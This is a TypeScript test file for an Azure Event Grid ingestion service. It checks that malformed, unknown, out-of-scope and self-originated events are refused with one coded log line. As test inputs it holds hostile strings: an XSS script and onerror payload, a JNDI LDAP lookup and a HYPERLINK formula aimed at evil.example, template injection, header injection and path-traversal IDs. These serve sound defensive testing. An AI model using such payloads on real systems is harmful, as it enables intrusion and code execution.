import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { groupId, ids, rebaseline } from '../../sandbox/estate/names.ts'
import { accountId, accountsWith, estateWith } from './estate.ts'
import { changeEvent, type Ground, startGround, until } from './ground.ts'

// What Event Grid may bring. What can never become work is taken, said in one coded line and not asked for again.
let ground: Ground
const drifted = { minimumTlsVersion: 'TLS1_0' }
const actors = {
  markdown: '[click](https://evil.example) **bold** <at>everyone</at>',
  html: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  spreadsheet: '=HYPERLINK("https://evil.example";"pay")',
  template: '$\u007bjndi:ldap://evil.example/a} {{7*7}}',
  controls: 'Anna\u0000\u0007\u202e\u2028\r\nx-evil: 1',
  lonely: 'half a pair \ud83d',
  endless: 'x'.repeat(5000),
}
const ownWrites = ['claims', 'objectid', 'evidence', 'dashes'] as const
const untouched = accountId('untouched0')
const empty = accountId('empty0')
const huge = accountId('huge0')
const bare = accountId('bare0')

beforeAll(async () => {
  const mine = [
    ...Object.keys(actors).map((name) => accountId(`actor0${name}`)),
    ...ownWrites.map((name) => accountId(`own0${name}`)),
    ...[untouched, empty, huge, bare],
  ]
  const resources = accountsWith(Object.fromEntries(mine.map((id) => [id, drifted])))
  ground = await startGround({ estate: estateWith([], { resources }) })
}, 60_000)
afterAll(() => ground.stop())

const without = (member: string) => {
  const { [member]: _, ...rest } = changeEvent(untouched) as Record<string, unknown>
  return rest
}
const about = (resourceUri: unknown) =>
  changeEvent(String(resourceUri), { data: { resourceUri, claims: {} } })
const cloud = (more: object) => ({
  ...{ id: 'c1', source: '/subscriptions/x', subject: untouched, specversion: '1.0' },
  type: 'Microsoft.Resources.ResourceWriteSuccess',
  time: new Date().toISOString(),
  data: { resourceUri: untouched },
  ...more,
})
const other = untouched.replace(/subscriptions\/[^/]+/, `subscriptions/${crypto.randomUUID()}`)

const refused: readonly (readonly [what: string, event: unknown, code: string])[] = [
  ['an empty object', {}, 'EventMalformed'],
  ['something that is no event', { hello: 'world' }, 'EventMalformed'],
  ['an event without an id', without('id'), 'EventMalformed'],
  ['an event with an empty id', changeEvent(untouched, { id: '' }), 'EventMalformed'],
  ['an event with a number for an id', changeEvent(untouched, { id: 7 }), 'EventMalformed'],
  ['an event without a time', without('eventTime'), 'EventMalformed'],
  [
    'an event with a time that is none',
    changeEvent(untouched, { eventTime: 'soon' }),
    'EventMalformed',
  ],
  ['an event with null for a time', changeEvent(untouched, { eventTime: null }), 'EventMalformed'],
  ['an event without a type', without('eventType'), 'EventMalformed'],
  [
    'an event with a list for a type',
    changeEvent(untouched, { eventType: ['x'] }),
    'EventMalformed',
  ],
  ['a CloudEvent without an id', cloud({ id: undefined }), 'EventMalformed'],
  ['a CloudEvent without a source', cloud({ source: undefined }), 'EventMalformed'],
  ['a CloudEvent without a time', cloud({ time: undefined }), 'EventMalformed'],
  ['a CloudEvent of another version', cloud({ specversion: '0.3', type: 7 }), 'EventMalformed'],
  [
    'a type that nobody announced',
    changeEvent(untouched, { eventType: 'Contoso.Things.Happened' }),
    'UnknownEventType',
  ],
  [
    'a failed write',
    changeEvent(untouched, { eventType: 'Microsoft.Resources.ResourceWriteFailure' }),
    'UnknownEventType',
  ],
  [
    'a vault event of a kind that nobody knows',
    changeEvent(untouched, { eventType: 'Microsoft.KeyVault.SomethingElseHappened' }),
    'UnknownEventType',
  ],
  ['a type without a rule', changeEvent(ids.registry), 'NoRule'],
  [
    'a role assignment in the group',
    changeEvent(
      `${groupId('rg-web')}/providers/Microsoft.Authorization/roleAssignments/${crypto.randomUUID()}`,
    ),
    'NoRule',
  ],
  ['the lab, which is excluded', changeEvent(ids.labAccount), 'OutOfScope'],
  ['another subscription', changeEvent(other), 'OutOfScope'],
  ['a resource group', changeEvent(groupId('rg-web')), 'ResourceIdMalformed'],
  ['an id with a step up', about(`${untouched}/../stfraudprod`), 'ResourceIdMalformed'],
  [
    'an id with a hidden slash',
    about(`${groupId('rg-web')}%2Fproviders%2Fx`),
    'ResourceIdMalformed',
  ],
  ['an id with a query', about(`${untouched}?api-version=1`), 'ResourceIdMalformed'],
  ['an id of 10,000 characters', about(`${untouched}${'a'.repeat(10_000)}`), 'ResourceIdMalformed'],
  ['a URL for an id', about(`https://management.azure.com${untouched}`), 'ResourceIdMalformed'],
  [
    'a key event about a key with a strange name',
    changeEvent(untouched, {
      eventType: 'Microsoft.KeyVault.KeyExpired',
      topic: ids.hubVault,
      subject: '../../x',
    }),
    'ResourceIdMalformed',
  ],
  [
    'a key event without a vault',
    changeEvent(untouched, { eventType: 'Microsoft.KeyVault.KeyExpired', topic: '', subject: 'k' }),
    'ResourceIdMalformed',
  ],
]

// The service's own storage takes a token, too.
const asked = () => ground.sandbox.azure.calls.filter(({ plane }) => plane !== 'identity').length

describe('an event that is no work', () => {
  it.each(refused)('%s is taken with one coded line', async (_, event, code) => {
    const seen = ground.lines().length
    const calls = asked()
    expect(await ground.deliver([event])).toBe(202)
    const said = await until('the line', () => {
      const lines = ground.lines().slice(seen)
      return lines.length > 0 && lines
    })
    expect(said).toMatchObject([{ code }])
    expect(JSON.stringify(said).length).toBeLessThan(1200)
    expect(asked()).toBe(calls)
  })

  it.each([
    ['JSON that ends too early', '[{"id":'],
    ['no JSON', 'hello'],
    ['an empty body', ''],
    ['a number', '1'],
    ['a list of lists', '[[]]'],
    ['an event nested deeper than the host reads', `[{"data":${'['.repeat(63)}${']'.repeat(63)}}]`],
  ])('%s never reaches the service: the host answers 500', async (_, body) => {
    const seen = ground.lines().length
    expect(await ground.deliver(body)).toBe(500)
    expect(ground.lines().slice(seen)).toEqual([])
  })
})

describe('an event that tells little or lies', () => {
  it('with empty claims still leads to the resource, and names nobody', async () => {
    await ground.deliver([
      changeEvent(empty, { data: { resourceUri: empty, claims: '{}', authorization: '[]' } }),
    ])
    const action = await ground.action(empty, 'verified')
    expect(action.cause.actor).toMatchObject({ kind: 'unknown', name: 'unknown' })
  })

  it('without data is about what its subject names', async () => {
    const { data: _, ...event } = changeEvent(bare) as Record<string, unknown>
    await ground.deliver([event])
    await ground.action(bare, 'verified')
  })

  it('of 200 KB is read for its identity alone', async () => {
    const filler = Object.fromEntries(
      Array.from({ length: 2000 }, (_, index) => [`m${index}`, 'y'.repeat(90)]),
    )
    const event = changeEvent(huge, { data: { resourceUri: huge, claims: {}, filler } })
    expect(JSON.stringify(event).length).toBeGreaterThan(200_000)
    expect(await ground.deliver([event])).toBe(202)
    expect(JSON.stringify(await ground.action(huge, 'verified')).length).toBeLessThan(3000)
  })

  it.each(Object.entries(actors))(
    'with an actor made of %s is recorded as text',
    async (kind, name) => {
      const id = accountId(`actor0${kind}`)
      await ground.deliver([changeEvent(id, { data: { resourceUri: id, claims: { name } } })])
      const action = await ground.action(id, 'verified')
      // Half a surrogate is lost on the way to the worker.
      expect(action.cause.actor?.name).toBe(name.toWellFormed().slice(0, 200))
      expect((await ground.client.actionsOf(id)).chain.valid).toBe(true)
      const card = await until('the card', () =>
        ground.sandbox.alerts.received.find(
          ({ destination, body }) =>
            destination === 'teams' && JSON.stringify(body).includes(`actor0${kind}`),
        ),
      )
      // Teams reads markdown in every text block, and in no text run.
      expect(JSON.stringify(card.body)).not.toContain('"TextBlock"')
    },
  )
})

describe('our own write that comes back', () => {
  const dashless = rebaseline.objectId.replaceAll('-', '')
  const objectIdClaim = 'http://schemas.microsoft.com/identity/claims/objectidentifier'
  it.each([
    ['claims', 'the application id in the claims', { claims: { appid: rebaseline.appId } }],
    [
      'objectid',
      'the object id in the claims',
      { claims: { [objectIdClaim]: rebaseline.objectId } },
    ],
    [
      'evidence',
      'the principal in the evidence',
      { authorization: { evidence: { principalId: dashless } } },
    ],
    [
      'dashes',
      'an application id in capitals',
      { claims: { appid: rebaseline.appId.toUpperCase() } },
    ],
  ] as const)('is known by %s: %s', async (name, _, data) => {
    const id = accountId(`own0${name}`)
    const seen = ground.lines().length
    await ground.deliver([changeEvent(id, { data: { resourceUri: id, ...data } })])
    const said = await until('the line', () => {
      const lines = ground
        .lines()
        .slice(seen)
        .filter(({ msg }) => msg.startsWith('event'))
      return lines.length > 0 && lines
    })
    expect(said).toMatchObject([{ code: 'OwnWrite' }])
    expect(ground.writesTo(id)).toEqual([])
  })
})

it('none of them made Event Grid try again, nor the service fail', async () => {
  const { azure, host } = ground.sandbox
  await azure.events.settled()
  expect(azure.events.deadLetters).toEqual([])
  expect(
    azure.events.deliveries.every(({ attempt, status }) => attempt === 1 && status === 202),
  ).toBe(true)
  expect(host.logs.all.filter(({ level }) => level === 'error')).toEqual([])
  expect(ground.writesTo(untouched)).toEqual([])
  await until('an empty queue', async () => (await ground.client.health()).queues?.work === 0)
  expect(await ground.health()).toMatchObject({ status: 'ok' })
})
